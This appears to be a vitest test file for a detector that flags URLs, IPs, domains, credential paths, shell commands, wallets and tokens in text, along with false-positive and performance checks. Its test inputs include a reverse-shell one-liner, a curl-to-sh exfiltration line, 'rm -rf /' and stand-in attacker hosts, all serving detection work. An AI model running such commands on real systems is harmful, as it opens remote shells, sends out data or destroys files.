import { expect, test } from 'vitest'
import { findSightings } from './findSightings.ts'

const found = (text: string): readonly string[] =>
  findSightings(text, 'constant').map((one) => `${one.kind} ${one.text}`)

// Addresses for documentation, and those that specifications give as examples.
test.each([
  ['see https://example.test/a?b=c.', ['url https://example.test/a?b=c']],
  ['("http://192.0.2.1:8080/x.sh")', ['url http://192.0.2.1:8080/x.sh']],
  ['xhttp://example.test/', ['url http://example.test/']],
  ['stratum+tcp://pool.example:3333', ['url stratum+tcp://pool.example:3333']],
  ['192.0.2.1', ['ip-address 192.0.2.1']],
  ['192.0.2.1:4444', ['ip-address 192.0.2.1:4444']],
  ['2001:db8::1:2', ['ip-address 2001:db8::1:2']],
  ['[2001:db8::1:2]:443', ['ip-address [2001:db8::1:2]:443']],
  ['c2.evil.example', ['domain c2.evil.example']],
  ['evil.onion', ['domain evil.onion']],
  ['collector.example.io', ['domain collector.example.io']],
  ['evil.io:8443', ['domain evil.io:8443']],
  ['who@evil.example', ['domain evil.example']],
  ['xn--e1afmkfd.xn--p1ai', ['domain xn--e1afmkfd.xn--p1ai']],
  ['/etc/passwd', ['path /etc/passwd']],
  ['~/.ssh/id_rsa', ['path ~/.ssh/id_rsa']],
  ['C:\\Windows\\System32\\calc.exe', ['path C:\\Windows\\System32\\calc.exe']],
  ['\\\\host\\share\\x', ['path \\\\host\\share\\x']],
  ['../../etc/cron.d/x', ['path ../../etc/cron.d/x']],
  ['wget -q -O x y', ['command wget -q -O x y']],
  ['calc.exe', ['command calc.exe']],
  [
    'bash -i >& /dev/tcp/192.0.2.1/80 0>&1',
    ['path /dev/tcp/192.0.2.1/80', 'command bash -i >& /dev/tcp/192.0.2.1/80 0>&1'],
  ],
  [
    'curl -d @/tmp/x https://example.test | sh',
    [
      'url https://example.test',
      'path /tmp/x',
      'command curl -d @/tmp/x https://example.test | sh',
    ],
  ],
  ['1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa', ['wallet 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa']],
  [
    'BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4',
    ['wallet BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4'],
  ],
  [
    'bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0',
    ['wallet bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0'],
  ],
  [
    '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed',
    ['wallet 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'],
  ],
  ['AKIAIOSFODNN7EXAMPLE', ['token AKIAIOSFODNN7EXAMPLE']],
  [`Authorization: Bearer hf_${'a'.repeat(34)}`, [`token hf_${'a'.repeat(34)}`]],
  [`key=ghp_${'A1'.repeat(18)}`, [`token ghp_${'A1'.repeat(18)}`]],
  ['-----BEGIN RSA PRIVATE KEY-----\nMII', ['token -----BEGIN RSA PRIVATE KEY-----']],
  [
    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLW9mLWl0',
    ['token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLW9mLWl0'],
  ],
])('%s is told', (text, expected) => {
  expect(found(text)).toEqual(expected)
})

test.each([
  ...['os.path', 'tf.io', 'np.linalg.norm', 'keras.layers.in', 'model.h5', 'run.sh', 'cls.name'],
  ...['weights.pt', 'x.shape', 'tf.keras.app', 'numpy.core.multiarray', 'self.me', 'file.zip'],
  ...['1.2.3', '2.10.0.1rc1', '999.1.1.1', '01.02.03.04', '12:30:45', 'a::b', 'std::vector', '::2'],
  ...['aa:bb:cc:dd:ee:ff', 'conv2d_1/kernel:0', 'block/conv/bias', '/conv/relu', 'a/b/c', 'and/or'],
  ...[
    'channels_last',
    'curl of the field',
    'cat and dog',
    'start here',
    'sort by name',
    'net loss',
  ],
  ...['1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb', 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5'],
  ...['0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD', '0x0123456789', 'hf_model', 'AKIA', 'sk-learn'],
  ...[
    'layer://input',
    'see the docs.',
    'v1.0.0',
    '(None, 224, 224, 3)',
    'mean_squared_error',
    'eyJ',
  ],
])('%s is not', (text) => {
  expect(found(text)).toEqual([])
})

test('among names only what no name looks like is told', () => {
  const text = 'collector.example.com /etc/passwd rm -rf / https://example.test/ 192.0.2.1'
  expect(findSightings(text, 'names').map(({ text: one }) => one)).toEqual([
    'https://example.test/',
    '192.0.2.1',
  ])
})

test('a place is that of the word', () => {
  const text = 'a b "192.0.2.1" c'
  const [one] = findSightings(text, 'constant')
  expect(text.slice(one?.offset, (one?.offset ?? 0) + (one?.length ?? 0))).toBe('192.0.2.1')
})

test('a megabyte of anything takes no longer than a second or two', () => {
  const pieces = ['a', '.', 'a.', '/', '://', 'http://', '1.', ':', 'a:', '@', '\\', '1', "'", '\n']
  const words = ['sh -c x\n', 'eyJ.', '0x', '-----BEGIN ', '192.0.2.1 ', '| sh\n', '/a', 'bc1', '[']
  for (const piece of [...pieces, ...words]) {
    const began = performance.now()
    findSightings(piece.repeat(1_000_000 / piece.length), 'constant')
    expect(performance.now() - began, JSON.stringify(piece)).toBeLessThan(4_000)
  }
})
